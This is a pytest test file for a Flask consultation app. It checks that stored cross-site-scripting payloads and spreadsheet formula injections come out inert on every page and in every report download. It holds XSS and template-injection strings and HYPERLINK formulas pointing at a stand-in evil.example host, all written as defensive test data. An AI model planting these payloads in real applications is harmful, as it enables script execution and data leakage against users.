"""Stored XSS: markup written into every free-text field comes out as text, everywhere.

A respondent (through the public forms) and a coordinator (through the console's forms)
write a payload into every field that takes free text: organisation and display name,
a long-text answer, comments, theme name, redaction, decision reasons (a comment's, a
theme's, a section's), notes, a change's explanation. Then every
page of the URL map is read (public pages by the respondent, the console by an
administrator), and every report download: no page holds anything that could run, each
payload shows as the very text typed where that field is shown, and the downloads carry
it as data.

Moderation reasons are codes chosen from a list, not free text; the search box echoes
its query, so it is read with a payload too.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient
from pypdf import PdfReader

from consult.extensions import db
from consult.models import (
    Answer,
    Comment,
    CopyCluster,
    CopyMember,
    Response,
    ResponseImport,
    Theme,
)
from consult.models.columns import utcnow
from consult.models.vocab import Channel, CopyKind, Verdict
from consult.outcome.versions import load_new_version
from tests.factories import build_response, make_theme

from .pages import active_content, post_through, visible_text
from .people import same_browser
from .routes import route_keys

MARKUP = '<script>alert(1)</script> "><img src=x onerror=alert(1)> javascript:alert(1) {{7*7}}'
SLUG = "enia-2021"
BASE = f"/console/c/{SLUG}"
VERSION_2 = Path(__file__).resolve().parents[1] / "bundles" / "enia-2021-v2"


def payload(label: str) -> str:
    return f"{label} {MARKUP}"


#: Where each field goes: (label, form field).
ORG, NAME, ANSWER = payload("ORG-1"), payload("NAME-1"), payload("ANSWER-1")
COMMENT, HIDDEN = payload("COMMENT-1"), payload("COMMENT-2")
REDACTION, THEME, DECISION = payload("REDACTED-2"), payload("THEME-1"), payload("DECISION-1")
NOTE_C, NOTE_R, SEARCH = payload("NOTE-C"), payload("NOTE-R"), payload("SEARCH")
#: The outcome's free text: a theme's and a section's reasons, a change's explanation.
REASON_T, REASON_S, EXPLAIN = payload("REASON-T"), payload("REASON-S"), payload("EXPLAIN")
#: The name of a file of responses imported (as the uploader's computer named it).
FILE = payload("FILE-1")


@dataclass
class Stored:
    #: The browser of the respondent who wrote the payloads.
    person: FlaskClient
    response: Response
    comment: Comment
    redacted: Comment
    theme: Theme
    #: A suggested cluster of copies: the payload comment and the redacted one.
    cluster: int = 0
    #: A file of responses imported, named with the payload.
    file_import: int = 0


def respond(app, profile: dict, section: str, comment: str, answers: dict | None = None):
    """Walk the public flow in a new browser: profile, one section, submit."""
    browser = app.test_client()
    started = post_through(browser, f"/c/{SLUG}/profile", profile)
    assert started.status_code == 302, started.get_data(as_text=True)[:2000]
    page = f"/c/{SLUG}/s/{section}"
    values = {"comment": comment, "contribution": "problem_definition", **(answers or {})}
    assert post_through(browser, page, values).status_code == 302
    assert post_through(browser, f"/c/{SLUG}/review", {}, action="/submit").status_code == 302
    return browser


@pytest.fixture
def stored(app, world) -> Stored:
    """Every free-text field holds a payload, written through the forms people use."""
    person = {
        "responding_as": "organisation", "stakeholder_type": "academia",
        "organisation_name": ORG, "organisation_size": "large",
        "region": "lima_metropolitana", "publication": "named", "display_name": NAME,
        "email": "ana@example.org", "consent": "y",
    }  # fmt: skip
    browser = respond(app, person, "5-3", COMMENT, {"q_q_5_3_change": ANSWER})
    other = {**person, "organisation_name": "Otra", "publication": "anonymous"}
    respond(app, other, "5-4", HIDDEN)
    response = db.session.scalar(sa.select(Response).filter_by(organisation_name=ORG))
    comment, redacted = (
        db.session.scalar(sa.select(Comment).filter_by(text=text)) for text in (COMMENT, HIDDEN)
    )

    console = same_browser(app, world.signed_in["coordinator"])
    created = post_through(console, f"{BASE}/themes", {"name": THEME}, action="/themes")
    assert created.status_code == 302
    theme = db.session.scalar(sa.select(Theme).filter_by(name=THEME))
    page = f"{BASE}/comments/{comment.id}"
    for values, action in (
        ({"theme": str(theme.id)}, "/themes"),
        ({"state": "published"}, "/moderate"),
        ({"decision": "accepted", "reason": DECISION}, "/decide"),
        ({"text": NOTE_C}, "/notes"),
    ):
        assert post_through(console, page, values, action=action).status_code == 302
    page = f"{BASE}/comments/{redacted.id}"
    for values, action in (
        ({"redacted_text": REDACTION}, "/redact"),
        ({"state": "published"}, "/moderate"),
    ):
        assert post_through(console, page, values, action=action).status_code == 302
    page = f"{BASE}/responses/{response.id}"
    assert post_through(console, page, {"text": NOTE_R}, action="/notes").status_code == 302
    _decide_and_explain(console, theme, comment)

    db.session.expire_all()
    written = db.session.get(Comment, comment.id)
    assert (written.decision_reason, written.notes[0].text) == (DECISION, NOTE_C)
    assert db.session.get(Comment, redacted.id).redacted_text == REDACTION
    assert db.session.get(Response, response.id).notes[0].text == NOTE_R
    cluster = CopyCluster(
        consultation_id=response.consultation_id,
        kind=CopyKind.NEAR,
        verdict=Verdict.SUGGESTED,
        representative_id=comment.id,
        size=2,
    )
    cluster.members = [CopyMember(comment_id=comment.id), CopyMember(comment_id=redacted.id)]
    db.session.add(cluster)
    file_import = ResponseImport(
        consultation_id=response.consultation_id,
        file_name=FILE,
        file_sha256="0" * 64,
        channel=Channel.PAPER,
        imported_at=utcnow(),
    )
    db.session.add(file_import)
    db.session.commit()
    redacted = db.session.get(Comment, redacted.id)
    return Stored(browser, response, comment, redacted, theme, cluster.id, file_import.id)


def _decide_and_explain(console: FlaskClient, theme: Theme, comment: Comment) -> None:
    """The outcome's free text through the console: a theme's and a section's decision
    with their reasons, version 2 of the draft, and 5.3's change explained and linked."""
    reasons = {"decision": "partly"}
    for page, reason in (
        (f"{BASE}/themes/{theme.id}/decision", REASON_T),
        (f"{BASE}/outcome/sections/5-3", REASON_S),
    ):
        values = {**reasons, "reason_es": reason, "reason_en": reason}
        assert post_through(console, page, values).status_code == 302
    load_new_version(VERSION_2)
    section = comment.section_id
    values = {
        f"s{section}-explanation_es": EXPLAIN,
        f"s{section}-explanation_en": EXPLAIN,
        f"s{section}-themes": str(theme.id),
    }
    page = f"{BASE}/versions/2"
    assert post_through(console, page, values, action="/s/5-3/change").status_code == 302


def as_json(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)[1:-1]


def shows(text: str, payloads: list[str]) -> list[str]:
    """The payloads ``text`` does not show as typed."""
    return [p.split()[0] for p in payloads if p not in text]


#: What each page must show, as typed (a payload that is missing fails the test).
def expected_pages(stored: Stored) -> dict[str, list[str]]:
    response, comment, redacted = stored.response.id, stored.comment.id, stored.redacted.id
    return {
        f"/c/{SLUG}/s/5-3": [COMMENT, NAME],
        f"/c/{SLUG}/s/5-4": [REDACTION],
        f"/c/{SLUG}/results": [THEME],
        f"/c/{SLUG}/review": [ORG, NAME, ANSWER, COMMENT],
        f"{BASE}/responses": [ORG],
        f"{BASE}/responses/{response}": [ORG, NAME, ANSWER, COMMENT, NOTE_R],
        f"{BASE}/comments": [COMMENT, HIDDEN, REDACTION, THEME],
        f"{BASE}/comments/{comment}": [COMMENT, DECISION, THEME, NOTE_C],
        f"{BASE}/comments/{redacted}": [HIDDEN, REDACTION],
        f"{BASE}/comments?q={quote(SEARCH)}": [SEARCH],
        f"{BASE}/themes": [THEME],
        f"{BASE}/themes/{stored.theme.id}/decision": [THEME, REASON_T],
        f"{BASE}/outcome/sections/5-3": [REASON_S],
        f"{BASE}/versions/2": [EXPLAIN, THEME],
        f"/c/{SLUG}/changes": [EXPLAIN, THEME],
        f"/c/{SLUG}/s/5-3/changes": [EXPLAIN, THEME],
        f"{BASE}/insight/campaigns/": [COMMENT],
        f"{BASE}/insight/campaigns/{stored.cluster}": [COMMENT],
        f"{BASE}/report/": [COMMENT, THEME],
        f"{BASE}/imports": [FILE],
        f"{BASE}/imports/{stored.file_import}/remove": [FILE],
        # "You said, we did", previewed by a coordinator (the outcome is not published).
        f"/c/{SLUG}/outcome": [THEME, COMMENT, NAME, REASON_T, REASON_S, EXPLAIN],
        f"/c/{SLUG}/s/5-3/outcome": [THEME, COMMENT, NAME, REASON_T, REASON_S, EXPLAIN],
        # The audit trail prints what changed as JSON.
        "/console/admin/audit": [
            as_json(text) for text in (THEME, REDACTION, DECISION, REASON_T, REASON_S, EXPLAIN)
        ],
    }


#: Parameters no stored payload fills: charts, private links, a paper (a PDF, not a page),
#: a passage (its page is checked with the section's comments in tests/public).
_NOT_FILLED = {"digest", "token", "paper_id", "name", "anchor", "mail_id"}


def every_page(app, stored: Stored, user_id: int) -> list[str]:
    """Every GET page of the URL map, filled with the objects that hold the payloads."""
    values = {
        "slug": SLUG,
        "response_id": stored.response.id,
        "comment_id": stored.comment.id,
        "theme_id": stored.theme.id,
        "cluster_id": stored.cluster,
        "import_id": stored.file_import,
        "user_id": user_id,
        "filename": "css/consult.css",
        "language": "es",
        "lang": "es",
        "number": 2,
        "qkey": "q-5-3-agree",
    }
    urls = []
    for key, rule in sorted(route_keys(app).items()):
        if not key.startswith("GET ") or rule.arguments & _NOT_FILLED:
            continue
        for section in ("5-3", "5-4") if "key" in rule.arguments else (None,):
            urls.append(rule.build({**values, "key": section}, append_unknown=False)[1])
    return urls


def test_payloads_show_as_typed_and_nothing_runs_on_any_page(app, world, stored, admin):
    # K = 1, so that the public results publish the one tagged comment's theme: its name
    # must reach the page as typed (with K = 5, a theme of one comment is not published).
    app.config["REPORT_MIN_CELL"] = 1
    person = stored.person
    staff = same_browser(app, world.signed_in["admin"])
    private = f"/c/{SLUG}/r/"
    expected = expected_pages(stored)
    pages = every_page(app, stored, admin.id) + list(expected)
    problems = []
    for url in pages:
        # Pages published only with the outcome are read in a coordinator's preview.
        previewed = url.endswith(("/outcome", "/outcome.pdf", "/changes"))
        reader = staff if url.startswith("/console") or previewed else person
        reply = reader.get(url, buffered=True)
        if reply.mimetype not in ("text/html", "image/svg+xml"):
            continue
        assert reply.status_code == 200, (url, reply.status_code)
        body = reply.get_data(as_text=True)
        if found := active_content(body):
            problems.append(f"{url} could run: {found}")
        if missing := shows(visible_text(body), expected.get(url, [])):
            problems.append(f"{url} does not show {missing} as typed")
    receipt = person.get(f"/c/{SLUG}/receipt").get_data(as_text=True)
    assert private in receipt
    link = receipt[receipt.index(private) :].split('"')[0].split("<")[0]
    body = person.get(link).get_data(as_text=True)
    assert active_content(body) == []
    assert shows(visible_text(body), [ORG, NAME, ANSWER, COMMENT]) == []
    assert not problems, "\n".join(problems)


def test_the_public_summarys_charts_run_nothing(app, world, stored):
    """Its charts are SVG files of their own: opened directly, they must not run either."""
    reader = app.test_client()
    page = reader.get(f"/c/{SLUG}/results").get_data(as_text=True)
    charts = [src for src in _image_sources(page) if "/results/charts/" in src]
    assert charts
    for src in charts:
        chart = reader.get(src)
        assert chart.mimetype == "image/svg+xml"
        svg = chart.get_data(as_text=True)
        assert active_content(svg, allowed=frozenset({"svg"})) == [], src


def _image_sources(page: str) -> list[str]:
    return [part.split('"')[0] for part in page.split('src="')[1:]]


# ---------------------------------------------------------------- downloads


def strings_in(value) -> list[str]:
    """Every string of a JSON document."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in strings_in(item)]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    return []


def download(client, fmt: str, audience: str = "confidential") -> bytes:
    reply = client.get(f"{BASE}/report/report.{fmt}?audience={audience}", buffered=True)
    assert reply.status_code == 200, (fmt, audience, reply.status_code)
    return reply.get_data()


def test_downloads_carry_the_payloads_as_data(app, world, stored):
    admin = same_browser(app, world.signed_in["admin"])
    archive = zipfile.ZipFile(io.BytesIO(download(admin, "csv.zip")))
    csv_text = "\n".join(
        cell
        for name in archive.namelist()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8")))
        for cell in row
    )
    assert shows(csv_text, [ORG, NAME, ANSWER, COMMENT, HIDDEN, REDACTION, DECISION, THEME]) == []

    book = openpyxl.load_workbook(io.BytesIO(download(admin, "xlsx")), read_only=True)
    cells = "\n".join(
        str(value) for sheet in book for row in sheet.iter_rows(values_only=True) for value in row
    )
    assert shows(cells, [ORG, NAME, ANSWER, COMMENT, HIDDEN, REDACTION, DECISION, THEME]) == []

    reply = admin.get(f"{BASE}/report/report.json", buffered=True)
    assert reply.mimetype == "application/json"
    assert shows("\n".join(strings_in(reply.get_json())), [COMMENT, THEME]) == []

    pdf = PdfReader(io.BytesIO(download(admin, "pdf")))
    text = " ".join(page.extract_text() for page in pdf.pages)
    assert "<script>alert(1)</script>" in text and "{{7*7}}" in text
    assert "COMMENT-1" in text and "THEME-1" in text


# ---------------------------------------------------------------- spreadsheet formulas

#: A cell starting with one of these runs as a formula in a spreadsheet.
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formulas(app, enia) -> list[str]:
    """Six responses, each with every free-text field starting with one formula character.

    Written straight through the ORM (the exports are under test, not the forms); each
    comment is published with the author's name, so the open downloads quote it too.
    """
    question = next(q for q in enia.questions if q.key == "q-5-3-change")
    written = []
    for n, start in enumerate(FORMULA):
        text = {
            field: f'{start}HYPERLINK("http://evil.example/{field}{n}","x")'
            for field in ("org", "name", "answer", "comment", "redacted", "reason", "theme")
        }
        response = build_response(
            enia,
            [{"section": "5-3", "text": text["comment"], "moderation": "published",
              "redacted_text": text["redacted"], "decision": "accepted",
              "decision_reason": text["reason"]}],
            organisation_name=text["org"], publication="named", display_name=text["name"],
        )  # fmt: skip
        response.answers.append(Answer(question_id=question.id, value=text["answer"]))
        db.session.flush()
        make_theme(enia, text["theme"], response.comments[0])
        written += list(text.values())
    return written


def cells_of_csv_zip(data: bytes) -> list[str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [
        cell
        for name in archive.namelist()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
        for cell in row
    ]


def cells_of_xlsx(data: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                value = cell.value
                # XLSX stores a carriage return as _x000D_; Excel reads it back as one.
                cells.append(value.replace("_x000D_", "\r") if isinstance(value, str) else value)
    return cells


def runs_as_formula(cell: object) -> bool:
    """A text cell a spreadsheet would run (a plain number such as -0.5 is only a number)."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("audience", ["confidential", "open"])
def test_spreadsheets_run_no_formula_from_any_text_field(app, world, formulas, audience):
    """CSV defuses a formula with a leading quote; XLSX writes it as a string cell, which
    a spreadsheet never runs, so it reads as typed (and no cell is a formula)."""
    app.config["REPORT_MIN_CELL"] = 1  # the open version publishes each one-comment theme
    admin = same_browser(app, world.signed_in["admin"])
    for fmt, read, written in (
        ("csv.zip", cells_of_csv_zip, lambda v: "'" + v),
        ("xlsx", cells_of_xlsx, lambda v: v),
    ):
        cells = read(download(admin, fmt, audience))
        shown = {c for c in cells if isinstance(c, str)}
        if fmt == "csv.zip":
            assert [c for c in cells if runs_as_formula(c)] == [], (fmt, audience)
        if audience == "confidential":
            # Every field reaches the raw rows.
            assert [v for v in formulas if written(v) not in shown] == [], fmt
        else:
            # The open report quotes published text (here the redactions) and theme names.
            public = [v for v in formulas if "/redacted" in v or "/theme" in v]
            assert [v for v in public if written(v) not in shown] == [], fmt
